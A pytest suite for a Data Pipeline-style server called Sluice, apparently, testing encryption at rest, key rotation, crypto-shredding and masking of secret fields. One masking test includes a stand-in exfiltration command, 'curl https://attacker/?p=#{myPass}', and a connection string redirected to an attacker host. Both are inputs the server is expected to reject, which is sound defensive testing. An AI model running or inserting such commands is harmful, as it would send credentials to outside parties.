"""Encryption at rest: what reaches the disk is sealed, keys rotate and rewrap while the server
runs, and deleting a pipeline destroys its data key."""

import gzip
import pytest
import sqlite3
import subprocess

from conftest import SLUICE, Server

FIELD_SECRET = "field-secret-hunter2"
PARAMETER_SECRET = "parameter-secret-opensesame"
DEFINITION_MARKER = "definition-marker-7f3a"


def put_secret_definition(client, pipeline_id):
    client.put_pipeline_definition(
        pipelineId=pipeline_id,
        pipelineObjects=[
            {"id": "Default", "name": "Default", "fields": [{"key": "workerGroup", "stringValue": "wg"},
                                                            {"key": "scheduleType", "stringValue": "ondemand"}]},
            {"id": "Db", "name": "Db", "fields": [{"key": "type", "stringValue": "JdbcDatabase"},
                                                  {"key": "connectionString", "stringValue": "jdbc:mysql://db/x"},
                                                  {"key": "jdbcDriverClass", "stringValue": "D"},
                                                  {"key": "username", "stringValue": "u"},
                                                  {"key": "*password", "stringValue": FIELD_SECRET}]},
            {"id": "Job", "name": "Job", "fields": [{"key": "type", "stringValue": "ShellCommandActivity"},
                                                    {"key": "command", "stringValue": f"echo {DEFINITION_MARKER} #{{*myPass}}"}]},
        ],
        parameterObjects=[{"id": "*myPass", "attributes": [{"key": "type", "stringValue": "String"}]}],
        parameterValues=[{"id": "*myPass", "stringValue": PARAMETER_SECRET}])


def database(data_dir):
    return sqlite3.connect(f"file:{data_dir / 'sluice.db'}?mode=ro", uri=True)


def every_file(data_dir, log_path):
    """(path, bytes) of every file Sluice wrote, gzip files decompressed."""
    for path in sorted(p for p in data_dir.rglob("*") if p.is_file()):
        content = path.read_bytes()
        if path.suffix == ".gz":
            content = gzip.decompress(content)
        yield path, content
    yield log_path, log_path.read_bytes()


@pytest.mark.sqlite_only
def test_no_secret_reaches_any_file_in_plaintext(tmp_path):
    server = Server(tmp_path / "data", ["--audit-delivery-seconds", "1", "--audit-digest-seconds", "1"]).start()
    try:
        client = server.client()
        pipeline_id = client.create_pipeline(name="enc", uniqueId="enc")["pipelineId"]
        put_secret_definition(client, pipeline_id)
        got = client.get_pipeline_definition(pipelineId=pipeline_id)
        fields = {f["key"]: f.get("stringValue") for o in got["pipelineObjects"] for f in o["fields"]}
        assert fields["*password"] == FIELD_SECRET  # the owner reads it back (decrypted)
        assert got["parameterValues"] == [{"id": "*myPass", "stringValue": PARAMETER_SECRET}]
    finally:
        server.stop()
    files = list(every_file(server.data_dir, tmp_path / "data.log"))
    assert len(files) > 8
    for path, content in files:
        for secret in (FIELD_SECRET, PARAMETER_SECRET, DEFINITION_MARKER):
            assert secret.encode() not in content, f"{secret} in {path}"
        if path.name != "bootstrap-credentials.json":  # the operator's copy, written once, mode 0600
            assert server.secret_access_key.encode() not in content, f"root secret in {path}"
    with database(server.data_dir) as connection:
        body, format_version = connection.execute("SELECT body, format_version FROM definition_versions").fetchone()
        wrapped_keys = [row[0] for row in connection.execute("SELECT sealed_secret FROM access_keys")]
    assert format_version == 2 and body[:3] == b"SLE" and DEFINITION_MARKER.encode() not in body
    assert all(key[:3] == b"SLE" for key in wrapped_keys)


def kek_version(sealed):
    # "SLE" | format | id length | id | version (u32, big-endian)
    id_length = sealed[4]
    return int.from_bytes(sealed[5 + id_length:9 + id_length], "big")


@pytest.mark.sqlite_only
def test_rotate_and_rewrap_while_serving_then_crypto_shred(tmp_path):
    server = Server(tmp_path / "data").start()
    try:
        client = server.client()
        first = client.create_pipeline(name="a", uniqueId="a")["pipelineId"]
        put_secret_definition(client, first)
        rotate = subprocess.run([SLUICE, "keys", "rotate", "--data-dir", str(server.data_dir)], capture_output=True, text=True)
        assert rotate.returncode == 0 and "version 2" in rotate.stdout, rotate.stdout + rotate.stderr
        # The running server seals new data keys with the new version at once.
        second = client.create_pipeline(name="b", uniqueId="b")["pipelineId"]
        rewrap = subprocess.run([SLUICE, "keys", "rewrap", "--data-dir", str(server.data_dir)], capture_output=True, text=True)
        assert rewrap.returncode == 0, rewrap.stderr
        # Only what was sealed before the rotation is re-sealed: the first pipeline's key and the root's secret.
        assert "1 access key secret(s), 0 MFA seed(s), 1 data key(s)" in rewrap.stdout, rewrap.stdout
        again = subprocess.run([SLUICE, "keys", "rewrap", "--data-dir", str(server.data_dir)], capture_output=True, text=True)
        assert "re-sealed 0 access key secret(s), 0 MFA seed(s), 0 data key(s)" in again.stdout, again.stdout
        # The running server still reads everything, and so does a restarted one.
        assert client.get_pipeline_definition(pipelineId=first)["pipelineObjects"]
    finally:
        server.stop()
    with database(server.data_dir) as connection:
        versions = [kek_version(row[0]) for row in connection.execute("SELECT wrapped FROM data_keys")]
    assert versions == [2, 2]
    restarted = Server(server.data_dir).start()
    try:
        client = restarted.client()
        fields = {f["key"]: f.get("stringValue") for o in client.get_pipeline_definition(pipelineId=first)["pipelineObjects"] for f in o["fields"]}
        assert fields["*password"] == FIELD_SECRET
        client.delete_pipeline(pipelineId=first)
    finally:
        restarted.stop()
    with database(server.data_dir) as connection:
        remaining = [row[0] for row in connection.execute("SELECT pipeline_id FROM data_keys")]
        bodies = connection.execute("SELECT COUNT(*) FROM definition_versions WHERE pipeline_id = ?", (first,)).fetchone()[0]
    assert remaining == [second] and bodies == 0


@pytest.mark.sqlite_only
def test_a_missing_key_folder_is_not_silently_replaced(tmp_path):
    server = Server(tmp_path / "data").start()
    server.stop()
    key = server.data_dir / "keys" / "kek-v1.key"
    key.unlink()
    # A new KEK would make every sealed value unreadable: the server must not start as if fine.
    restarted = subprocess.run([SLUICE, "serve", "--data-dir", str(server.data_dir), "--listen", "127.0.0.1:0"],
                               capture_output=True, text=True, timeout=30)
    assert restarted.returncode != 0
    assert "key" in restarted.stderr.lower()


@pytest.mark.sqlite_only
def test_keys_from_the_environment_instead_of_a_folder(tmp_path):
    import base64
    import os
    version_1 = {"SLUICE_KEK_V1": base64.b64encode(os.urandom(32)).decode()}
    server = Server(tmp_path / "data", extra_env=version_1).start()
    try:
        client = server.client()
        pipeline_id = client.create_pipeline(name="env", uniqueId="env")["pipelineId"]
        put_secret_definition(client, pipeline_id)
    finally:
        server.stop()
    assert not (server.data_dir / "keys" / "kek-v1.key").exists()
    # Without the environment's key the existing store is refused, not given a new key.
    refused = subprocess.run([SLUICE, "serve", "--data-dir", str(server.data_dir), "--listen", "127.0.0.1:0"],
                             capture_output=True, text=True, timeout=30)
    assert refused.returncode != 0 and "holds no key-encryption key" in refused.stderr
    both = {**version_1, "SLUICE_KEK_V2": base64.b64encode(os.urandom(32)).decode()}
    rewrap = subprocess.run([SLUICE, "keys", "rewrap", "--data-dir", str(server.data_dir)],
                            capture_output=True, text=True, env={**os.environ, **both})
    assert rewrap.returncode == 0 and "1 data key(s)" in rewrap.stdout, rewrap.stdout + rewrap.stderr
    restarted = Server(server.data_dir, extra_env={"SLUICE_KEK_V2": both["SLUICE_KEK_V2"]}).start()
    try:
        objects = restarted.client().get_pipeline_definition(pipelineId=pipeline_id)["pipelineObjects"]
        assert {f["key"]: f.get("stringValue") for o in objects for f in o["fields"]}["*password"] == FIELD_SECRET
    finally:
        restarted.stop()


def test_secret_fields_are_masked_unless_the_caller_may_reveal_them(tmp_path):
    from test_iam import allow, denied, user_with
    import json
    import botocore.exceptions
    import pytest
    server = Server(tmp_path / "data").start()
    try:
        root = server.client()
        pipeline_id = root.create_pipeline(name="masked", uniqueId="masked")["pipelineId"]
        put_secret_definition(root, pipeline_id)
        operator, operator_key, account = user_with(server, "operator", "SluicePipelineOperator")
        mask = "HIDDEN_DUE_TO_SECURITY_REASONS"

        got = operator.get_pipeline_definition(pipelineId=pipeline_id)
        fields = {f["key"]: f.get("stringValue") for o in got["pipelineObjects"] for f in o["fields"]}
        assert fields["*password"] == mask and fields["username"] == "u"
        assert got["parameterValues"] == [{"id": "*myPass", "stringValue": mask}]
        described = operator.describe_objects(pipelineId=pipeline_id, objectIds=["Db", "Job"],
                                              evaluateExpressions=False)["pipelineObjects"]
        assert {f["key"]: f.get("stringValue") for f in described[0]["fields"]}["*password"] == mask
        evaluated = operator.describe_objects(pipelineId=pipeline_id, objectIds=["Job"], evaluateExpressions=True)
        command = {f["key"]: f.get("stringValue") for f in evaluated["pipelineObjects"][0]["fields"]}["command"]
        assert PARAMETER_SECRET not in command and mask in command
        evaluated = operator.evaluate_expression(pipelineId=pipeline_id, objectId="Db", expression="#{*password}")
        assert evaluated["evaluatedExpression"] == mask
        # A `*` parameter named without its star is no way around the mask.
        evaluated = operator.evaluate_expression(pipelineId=pipeline_id, objectId="Job", expression="#{myPass}")
        assert evaluated["evaluatedExpression"] == mask
        # Selecting on a secret field would reveal it one guess at a time.
        message = denied(lambda: operator.query_objects(pipelineId=pipeline_id, sphere="COMPONENT", query={
            "selectors": [{"fieldName": "*password", "operator": {"type": "EQ", "values": [FIELD_SECRET]}}]}))
        assert "sluice:RevealSecretFields" in message

        # The AWS CLI's get → edit → put round trip keeps the secrets the operator never saw.
        env = server.cli_env()
        env.update(AWS_ACCESS_KEY_ID=operator_key["AccessKeyId"], AWS_SECRET_ACCESS_KEY=operator_key["SecretAccessKey"])
        from conftest import VENV_BIN
        base = [str(VENV_BIN / "aws"), "--endpoint-url", server.url, "--output", "json", "datapipeline"]
        shown = subprocess.run([*base, "get-pipeline-definition", "--pipeline-id", pipeline_id],
                               capture_output=True, text=True, env=env, check=True)
        document = json.loads(shown.stdout)
        assert FIELD_SECRET not in shown.stdout and PARAMETER_SECRET not in shown.stdout
        # (The objects holding or using the masked secrets stay as they are; others may change.)
        for item in document["objects"]:
            if item["id"] == "Default":
                item["workerGroup"] = "wg2"
        edited = tmp_path / "edited.json"
        edited.write_text(json.dumps(document))
        put = subprocess.run([*base, "put-pipeline-definition", "--pipeline-id", pipeline_id,
                              "--pipeline-definition", f"file://{edited}"], capture_output=True, text=True, env=env)
        assert put.returncode == 0, put.stderr
        back = root.get_pipeline_definition(pipelineId=pipeline_id)
        fields = {f["key"]: f.get("stringValue") for o in back["pipelineObjects"] for f in o["fields"]}
        assert fields["*password"] == FIELD_SECRET and fields["workerGroup"] == "wg2"
        assert back["parameterValues"] == [{"id": "*myPass", "stringValue": PARAMETER_SECRET}]

        # A secret left masked cannot be moved: changing the object that holds it, or adding an
        # object whose expressions reach secrets, is refused — and nothing quotes the secret.
        masked_now = operator.get_pipeline_definition(pipelineId=pipeline_id)
        moved = [dict(o, fields=[dict(f, stringValue="jdbc:mysql://attacker/x") if f["key"] == "connectionString"
                                 else f for f in o["fields"]]) for o in masked_now["pipelineObjects"]]
        for call in (operator.put_pipeline_definition, operator.validate_pipeline_definition):
            with pytest.raises(botocore.exceptions.ClientError) as caught:
                call(pipelineId=pipeline_id, pipelineObjects=moved, parameterObjects=masked_now["parameterObjects"],
                     parameterValues=masked_now["parameterValues"])
            assert "object 'Db' uses secret values" in caught.value.response["Error"]["Message"]
        leak = masked_now["pipelineObjects"] + [{"id": "Leak", "name": "Leak", "fields": [
            {"key": "type", "stringValue": "ShellCommandActivity"},
            {"key": "maximumRetries", "stringValue": "#{*myPass}"},
            {"key": "command", "stringValue": "curl https://attacker/?p=#{myPass}"}]}]
        with pytest.raises(botocore.exceptions.ClientError) as caught:
            operator.validate_pipeline_definition(pipelineId=pipeline_id, pipelineObjects=leak,
                                                  parameterObjects=masked_now["parameterObjects"],
                                                  parameterValues=masked_now["parameterValues"])
        assert "object 'Leak'" in caught.value.response["Error"]["Message"]
        assert PARAMETER_SECRET not in json.dumps(caught.value.response)

        # A mask where nothing was stored before is refused, naming the place.
        objects = back["pipelineObjects"] + [{"id": "Db2", "name": "Db2", "fields": [
            {"key": "type", "stringValue": "JdbcDatabase"}, {"key": "*password", "stringValue": mask}]}]
        with pytest.raises(botocore.exceptions.ClientError) as caught:
            operator.put_pipeline_definition(pipelineId=pipeline_id, pipelineObjects=objects,
                                             parameterObjects=back["parameterObjects"],
                                             parameterValues=back["parameterValues"])
        assert caught.value.response["Error"]["Code"] == "InvalidRequestException"
        assert "field '*password' of object 'Db2'" in caught.value.response["Error"]["Message"]

        # An explicit grant reveals them; datapipeline:* alone does not.
        broad, _, _ = user_with(server, "broad", documents=[allow("datapipeline:*")])
        fields = {f["key"]: f.get("stringValue") for o in broad.get_pipeline_definition(pipelineId=pipeline_id)
                  ["pipelineObjects"] for f in o["fields"]}
        assert fields["*password"] == mask
        revealer, _, _ = user_with(server, "revealer", documents=[
            allow("datapipeline:GetPipelineDefinition", "datapipeline:DescribeObjects", "sluice:RevealSecretFields")])
        fields = {f["key"]: f.get("stringValue") for o in revealer.get_pipeline_definition(pipelineId=pipeline_id)
                  ["pipelineObjects"] for f in o["fields"]}
        assert fields["*password"] == FIELD_SECRET
        described = revealer.describe_objects(pipelineId=pipeline_id, objectIds=["Db"], evaluateExpressions=False)
        assert {f["key"]: f.get("stringValue") for f in described["pipelineObjects"][0]["fields"]}["*password"] \
            == FIELD_SECRET
    finally:
        server.stop()


@pytest.mark.sqlite_only
def test_keys_from_an_operator_command(tmp_path):
    import base64
    import os
    key_file = tmp_path / "kms-answer"
    key_file.write_text(base64.b64encode(os.urandom(32)).decode() + "\n")  # as `aws kms decrypt ... --output text`
    key_file.chmod(0o600)
    command = f"cat {key_file}"
    server = Server(tmp_path / "data", ["--kek-command", command]).start()
    try:
        client = server.client()
        pipeline_id = client.create_pipeline(name="cmd", uniqueId="cmd")["pipelineId"]
        put_secret_definition(client, pipeline_id)
    finally:
        server.stop()
    assert not (server.data_dir / "keys" / "kek-v1.key").exists()
    # A failing command stops the start, without echoing what it printed.
    failing = subprocess.run([SLUICE, "serve", "--data-dir", str(server.data_dir), "--listen", "127.0.0.1:0",
                              "--kek-command", "echo not-a-key-but-private; exit 7"],
                             capture_output=True, text=True, timeout=30)
    assert failing.returncode != 0 and "key command failed" in failing.stderr
    assert "not-a-key-but-private" not in failing.stderr.replace("echo not-a-key-but-private", "")
    restarted = Server(server.data_dir, ["--kek-command", command]).start()
    try:
        objects = restarted.client().get_pipeline_definition(pipelineId=pipeline_id)["pipelineObjects"]
        assert {f["key"]: f.get("stringValue") for o in objects for f in o["fields"]}["*password"] == FIELD_SECRET
    finally:
        restarted.stop()


def test_after_a_run_no_file_holds_a_secret_in_plaintext(tmp_path):
    """A whole run — server, scheduler, runner, logs, audit — then every file it wrote is read."""
    import json
    import os
    definition = {
        "objects": [
            {"id": "Default", "name": "Default", "scheduleType": "ondemand", "workerGroup": "local"},
            {"id": "Db", "name": "Db", "type": "JdbcDatabase", "connectionString": "jdbc:mysql://db/x",
             "jdbcDriverClass": "D", "username": "u", "*password": FIELD_SECRET},
            {"id": "Job", "name": "Job", "type": "ShellCommandActivity", "stage": "true",
             "command": f"echo {DEFINITION_MARKER} > /dev/null; echo token=#{{*myPass}}; "
                        "echo \"password=#{*myPass}\" >&2; echo data > $OUTPUT1_STAGING_DIR/out.txt",
             "output": {"ref": "Out"}},
            {"id": "Out", "name": "Out", "type": "S3DataNode", "directoryPath": f"file://{tmp_path}/out"},
        ],
        "parameters": [{"id": "*myPass", "type": "String"}],
        "values": {"*myPass": PARAMETER_SECRET},
    }
    path = tmp_path / "secret.json"
    path.write_text(json.dumps(definition))
    data_dir, log_dir = tmp_path / "data", tmp_path / "logs"
    env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
    result = subprocess.run([SLUICE, "run", str(path), "--data-dir", str(data_dir), "--log-dir", str(log_dir)],
                            capture_output=True, text=True, env=env, timeout=180)
    assert result.returncode == 0, result.stdout + result.stderr
    assert (tmp_path / "out" / "out.txt").read_text() == "data\n"
    stdout_logs = [p for p in log_dir.rglob("stdout")]
    assert stdout_logs and "token=" in stdout_logs[0].read_text()
    files = [p for p in sorted(data_dir.rglob("*")) + sorted(log_dir.rglob("*")) if p.is_file()]
    assert len(files) > 8, files
    for file in files:
        content = file.read_bytes()
        if file.suffix == ".gz":
            content = gzip.decompress(content)
        for secret in (FIELD_SECRET, PARAMETER_SECRET, DEFINITION_MARKER):
            assert secret.encode() not in content, f"{secret} in {file}"
    # The attempt's working folder (staged data) is gone.
    assert not list(tmp_path.glob("**/Job*Attempt*/output1"))
